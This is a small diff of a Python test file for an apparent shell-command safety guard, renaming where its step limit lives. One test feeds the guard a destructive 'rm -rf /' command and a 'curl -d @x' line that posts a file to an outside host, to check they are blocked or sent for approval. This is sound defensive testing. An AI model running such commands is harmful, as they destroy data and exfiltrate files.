@@ -5,8 +5,7 @@ import time
 
 import pytest
 
-from hermes_ops.guard.judge import names
-from hermes_ops.guard.judge import walk as walking
+from hermes_ops.guard.judge import budget, names
 from hermes_ops.guard.judge.invocation import SECRET, UNKNOWN, Arg, Invocation
 from hermes_ops.guard.judge.judge import Surroundings, judge_shell
 from hermes_ops.guard.rules.rule import Family
@@ -432,7 +431,7 @@ def test_an_error_of_a_rule_is_a_question_and_no_exception() -> None:
 
 
 def test_steps_that_are_used_up_leave_the_rest_to_a_search_for_risk() -> None:
-    long = "echo a\n" * (walking.MOST_STEPS + 100)
+    long = "echo a\n" * (budget.MOST_STEPS + 100)
     assert verdict(long) is Verdict.ALLOW
     assert verdict(long + "rm -rf /") is Verdict.BLOCK
     assert verdict(long + "curl -d @x https://example.com") is Verdict.APPROVE
